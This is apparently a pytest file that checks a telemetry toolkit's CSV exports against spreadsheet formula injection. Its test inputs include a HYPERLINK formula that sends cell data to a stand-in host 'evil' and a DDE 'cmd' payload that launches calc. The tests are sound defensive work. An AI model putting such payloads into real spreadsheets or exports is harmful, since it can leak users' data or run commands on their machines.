"""Cells that a spreadsheet would run, in every table that we make."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd

from tests.lengths import is_long
from toolkit.telemetry import TelemetryLogger
from toolkit.telemetry.cli.main import main
from toolkit.telemetry.exchange.kept_files import file_keeper
from toolkit.telemetry.importers.source import Event
from toolkit.telemetry.runfolder.table import columns as table_columns
from toolkit.telemetry.runfolder.table.columns import SHORT
from toolkit.telemetry.runfolder.table.csv_table import build_table
from toolkit.telemetry.runs.columns import export
from toolkit.telemetry.runs.columns.export import curves_to_csv
from toolkit.telemetry.runs.store import CurveSegment, Series

ROOT = Path(__file__).parents[2]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
AFTER = ('HYPERLINK("http://evil/?"&A1)', '"\n=2', "cmd|' /C calc'!A0", "1+1", ";=3", ",=4")
FORMULAS = tuple(
    f"{before}{trigger}{after}"
    for trigger in TRIGGERS
    for before in ("", " ", "  ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\x00", "\x1b")
    for after in (AFTER if is_long() else AFTER[:2])
)


def runs_in_a_spreadsheet(cell):
    """Return whether a spreadsheet would treat `cell` as a formula: it skips blanks and invisible characters."""
    text = cell.lstrip(" \u00a0\u3000\ufeff\u200b\x00\x1b")
    is_number = text.replace(".", "").replace("e", "").replace("-", "").replace("+", "").isdigit()
    return text[:1] in TRIGGERS and text != "-inf" and not is_number


def cells_of(text):
    # Whatever separator a country's spreadsheet takes, a cell begins after it; one in quotes is one cell to all.
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_no_cell_and_no_header_of_any_table_is_a_formula(tmp_path, record_property):
    """Our own table as it grows, built again, shared, downloaded, exported; logged and imported tables."""
    metrics = {f"{formula}{number}": 1.5 for number, formula in enumerate(FORMULAS)}
    with TelemetryLogger("r", log_dir=tmp_path / "logs", system=False, log_every=1, csv="all") as log:
        for step, formula in enumerate(FORMULAS):
            log.log_event("note", text=formula, other=[formula])
            name = f"{formula}{step}"
            log.log_step(step, {name: 1.5, "text": formula})
        log.log_start(config={formula: formula for formula in FORMULAS[:20]})
        log.log_table("rows", [{formula: formula, "value": -0.5} for formula in FORMULAS[:60]])
        log.log_table("columns", {formula: [formula, b"\t=1", [formula]] for formula in FORMULAS[:60]})
    tables = {"mirror": (log.run_folder / "metrics.csv").read_text("utf-8")}
    build_table(log.run_folder / "metrics.jsonl", tmp_path / "again.csv")
    tables["built again"] = (tmp_path / "again.csv").read_text("utf-8")
    build_table(log.run_folder / "metrics.jsonl", tmp_path / "short.csv", form=SHORT)
    tables["short"] = (tmp_path / "short.csv").read_text("utf-8")
    assert main(["export", "--to", "zip", str(log.run_folder), "-o", str(tmp_path / "b.zip")]) == 0
    with zipfile.ZipFile(tmp_path / "b.zip") as archive:
        (name,) = [name for name in archive.namelist() if name.endswith("metrics.csv")]
        tables["bundle"] = archive.read(name).decode("utf-8")
    for number, path in enumerate((log.run_folder / "tables").iterdir()):
        tables[f"logged {number}"] = path.read_text("utf-8")
    keep = file_keeper(None, tmp_path)
    rows = [{formula: formula} for formula in FORMULAS[:60]]
    tables["imported"] = (tmp_path / keep(Event(kind="table", payload=rows))["path"]).read_text("utf-8")
    out = tmp_path / "exported.csv"
    assert main(["export", str(log.run_folder), "--to", "csv", "--out", str(out)]) == 0
    tables["exported"] = out.read_text("utf-8")
    segment = CurveSegment(x=np.array([1.0]), y=np.array([-1.5]), session=1)
    series = [Series(metric=formula, axis="step", segments=(segment,)) for formula in FORMULAS]
    curves = [(one.metric, one) for one in series]
    tables["chart"] = curves_to_csv(curves, "step", None).decode("utf-8")
    shown = export.shown_frame(pd.DataFrame({"=a": FORMULAS, "number": -0.5}, index=FORMULAS))
    tables["saved from a page"] = shown.to_csv()
    columns = {name: np.array([1.5, -2.5, -np.inf]) for name in metrics}
    tables["download"] = export.to_csv(columns).decode("utf-8")
    found = {
        where: [cell for cell in cells_of(text) if runs_in_a_spreadsheet(cell)]
        for where, text in tables.items()
    }

    assert found == {name: [] for name in tables}
    assert "-2.5" in tables["download"], "a number stays one"
    assert ",-1.5,0" in tables["chart"]
    assert ",-0.5," in tables["logged 0"] + tables["logged 1"]
    assert len(tables) == 11
    count = sum(len(cells_of(text)) for text in tables.values())
    record_property(
        "measured", f"{count:,} cells of {len(FORMULAS)} formulas in {len(tables)} tables, 0 would run"
    )


def test_every_table_is_written_by_the_function_that_marks_formulas():
    sources = [path for room in ("toolkit", "dashboard") for path in (ROOT / room).rglob("*.py")]
    writers = re.compile(r"\b(?:csv\.(?:Dict)?[wW]riter|\w*csv\.write_csv|\.to_csv|write_csv)\(")
    found = {
        path.relative_to(ROOT).as_posix(): sorted(set(writers.findall(path.read_text("utf-8"))))
        for path in sources
    }

    assert {name: calls for name, calls in found.items() if calls and calls != ["write_csv("]} == {
        "toolkit/telemetry/runfolder/table/columns.py": ["csv.writer(", "write_csv("],
        # The body of a download: columns of numbers alone.
        "toolkit/telemetry/runs/columns/export.py": ["pa_csv.write_csv(", "write_csv("],
    }


def test_every_table_of_a_page_which_has_a_button_that_saves_it_is_without_formulas():
    shown = re.compile(r"st\.(?:dataframe|data_editor|table)\(\s*(\w+)")
    found = {
        (path.name, given)
        for path in (ROOT / "dashboard").rglob("*.py")
        for given in shown.findall(path.read_text("utf-8"))
    }

    assert found
    assert {given for _, given in found} == {"shown_frame"}, found


def test_scripts_of_pages_know_the_same_beginnings():
    script = ROOT / "toolkit/telemetry/reports/report.js"
    assert f"/^{table_columns._FORMULA.pattern}/" in script.read_text("utf-8")
